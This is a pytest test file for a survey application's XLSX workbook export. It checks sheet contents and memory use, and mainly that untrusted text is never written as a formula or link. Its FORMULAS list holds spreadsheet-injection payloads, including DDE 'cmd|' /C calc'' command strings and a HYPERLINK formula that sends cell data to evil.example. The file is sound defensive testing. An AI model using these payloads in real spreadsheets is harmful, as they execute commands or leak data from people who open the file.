"""XLSX as another library reads it: openpyxl."""

import io
import json
import re
import tracemalloc
import zipfile

import openpyxl
import pytest
from openpyxl.utils.escape import unescape  # which openpyxl leaves to who reads
from payloads import ALL

from survey.core.instrument.instrument import FORMAT
from survey.core.instrument.parsing import from_canonical_json
from survey.errors import FormatUnavailable
from survey.exports.codebook import CODEBOOK_COLUMNS, codebook_rows
from survey.exports.result_terms import ResultTerms
from survey.exports.results_csv import estimates_table
from survey.exports.xlsx import workbook as module
from survey.exports.xlsx.workbook import workbook
from survey.text.glossary import DEFINITIONS

# Written out here, and not taken from the code (ASVS 1.2.10).
FORMULAS = [
    "=1+1", "=HYPERLINK(\"//evil.example/?\"&A1;\"b\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "|calc", "%0A=1", "＝1+1", "－1", "-1", "=", "{=1+1}",
    "http://evil.example/", "mailto:a@evil.example", "internal:about!A1", "external:c:\\x.xlsx",
    "_x003D_1+1", "true", "007", "1e5",
]  # fmt: skip


def written(exported, **settings) -> bytes:
    count = len(exported.responses)
    return b"".join(workbook(exported.instrument, exported.responses, count, **settings))


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def values(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_sheets_in_the_order_in_which_one_reads(exported):
    book = opened(written(exported))
    assert book.sheetnames == ["about", "codebook", "reports", "estimates", "recompute"]
    assert book.properties.title == exported.instrument.title


def test_reports_are_all_there_as_numbers(exported):
    header, *rows = values(opened(written(exported))["reports"])
    assert header == ("response_id", "q1", "q2", "q3_1", "q3_2", "q4", "q5")
    assert rows == [(each, *reports) for each, reports in exported.responses]


def test_codebook_has_a_row_a_code(exported):
    header, *rows = values(opened(written(exported))["codebook"])
    assert header == CODEBOOK_COLUMNS
    for row, expected in zip(rows, codebook_rows(exported.instrument), strict=True):
        assert row == pytest.approx(expected)


def test_estimates_are_those_of_the_table_and_a_negative_one_is_a_number(exported):
    header, *rows = values(opened(written(exported))["estimates"])
    names, *expected = estimates_table(exported.instrument, exported.tally)
    assert list(header) == names
    for row, cells in zip(rows, expected, strict=True):
        assert [cell or None for cell in row] == pytest.approx([cell or None for cell in cells])
    column = header.index("estimate")
    assert rows[0][column] < 0
    assert isinstance(rows[0][column], float)


def test_confidence_and_simultaneous_are_as_asked(exported):
    count = len(exported.responses)
    terms = ResultTerms(confidence=0.9, simultaneous=True)
    content = b"".join(workbook(exported.instrument, exported.responses, count, terms))
    about = dict(row[:2] for row in values(opened(content)["about"])[:9])
    assert (about["confidence"], about["simultaneous"]) == (0.9, True)
    assert about["confidence_each"] > 0.98
    _, first, *_ = values(opened(content)["estimates"])
    assert about["confidence_each"] in first


def test_about_says_what_it_is_and_defines_every_word(exported):
    rows = values(opened(written(exported))["about"])
    about = {row[0]: row[1:] for row in reversed(rows) if row[0]}
    assert about["instrument_sha256"][0] == exported.instrument.digest
    assert about["title"][0] == "All kinds"
    assert about["responses"][0] == 60
    assert about["q1"] == ("Did you cheat?", "yes/no", "1/4", pytest.approx(1.0986123), 60)
    for word, definition in DEFINITIONS.items():
        assert (word, definition) in [row[:2] for row in rows]


def hostile(texts: list[str]):
    """An instrument whose every text is one of these, read as earlier releases stored it."""
    questions = [{"text": text, "gamma": "1/4", "kind": "yes/no"} for text in texts]
    choice = {
        "kind": "choice",
        "options": [texts[-1], "other"],
        "gamma": "1/4",
        "text": texts[0],
    }
    several = choice | {"kind": "several"}
    words = {"title": texts[0], "introduction": texts[0]}
    asked = {"questions": [*questions, choice, several]}
    return from_canonical_json(json.dumps({"format": FORMAT} | words | asked))


def cells_at_fault(content: bytes) -> list[str]:
    """Cells that are formulas, as openpyxl and as the bare XML have it; and links."""
    faults = [
        str(cell.value)
        for sheet in opened(content)
        for row in sheet
        for cell in row
        if cell.data_type not in {"s", "n", "b"} or cell.hyperlink
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            if re.search(r"externalLink|vba|macro|comments|sheet\d+\.xml\.rels", name):
                faults.append(name)
            faults += re.findall(r"<f[ >].*?</f>|<hyperlink\b|<ddeLink", parts.read(name).decode())
    return faults


@pytest.mark.parametrize("texts", [FORMULAS, ALL[:40], ALL[40:80], ALL[80:]])
def test_no_text_is_a_formula_or_a_link_and_each_is_what_was_typed(texts):
    instrument = hostile(texts)
    responses = [("3e1" + "0" * 29, tuple(0 for _ in instrument.items))]
    content = b"".join(workbook(instrument, responses, 1))
    assert cells_at_fault(content) == []
    book = opened(content)
    found = {unescape(row[3]) for row in values(book["codebook"])[1:]}
    assert found == {question.text for question in instrument.questions}
    assert found >= {text.strip() for text in texts}
    assert book["reports"]["A2"].value == "3e1" + "0" * 29


def test_a_risky_text_stays_text_when_its_cell_is_edited():
    content = b"".join(workbook(hostile(FORMULAS), [], 0))
    for cell in opened(content)["codebook"]["D"]:
        assert cell.quotePrefix is str(cell.value).startswith(
            ("=", "+", "-", "@", "|", "%", "＝", "－")
        )


@pytest.mark.parametrize("text", ["=1+1", "http://evil.example/"])
def test_control_a_careless_writer_is_caught(exported, monkeypatch, text):
    import xlsxwriter.worksheet

    sheet = xlsxwriter.worksheet.Worksheet
    monkeypatch.setattr(sheet, "write_string", sheet.write)
    content = b"".join(workbook(hostile([text]), [], 0))
    assert cells_at_fault(content)


def test_same_reports_give_the_same_bytes(exported):
    assert written(exported) == written(exported)


def test_more_responses_than_a_sheet_has_rows_are_refused_at_once(exported):
    def never():
        raise AssertionError("nothing is read")
        yield

    with pytest.raises(FormatUnavailable, match="1,048,575 responses, and there are 1,048,576"):
        workbook(exported.instrument, never(), 1_048_576)


def test_nothing_stays_behind_if_reading_fails(exported, tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def torn():
        yield exported.responses[0]
        assert list(tmp_path.iterdir())
        raise ConnectionError

    with pytest.raises(ConnectionError):
        list(workbook(exported.instrument, torn(), 2))
    assert list(tmp_path.iterdir()) == []


def most_memory(work) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.exhaustive
def test_memory_does_not_grow_with_the_responses(exported):
    """Ten times as many responses; kept in memory they would take megabytes."""
    reports = exported.responses[0][1]

    def write(count: int) -> None:
        responses = ((f"{number:032x}", reports) for number in range(count))
        for _ in workbook(exported.instrument, responses, count):
            pass

    write(10)  # loads what is loaded once
    few, many = most_memory(lambda: write(500)), most_memory(lambda: write(5000))
    assert many < few + 500_000


@pytest.mark.exhaustive
def test_control_a_workbook_in_memory_grows(exported, monkeypatch):
    def careless(file, options):
        return xlsxwriter_workbook(file)

    xlsxwriter_workbook = module.Workbook
    monkeypatch.setattr(module, "Workbook", careless)
    with pytest.raises(AssertionError):
        test_memory_does_not_grow_with_the_responses(exported)
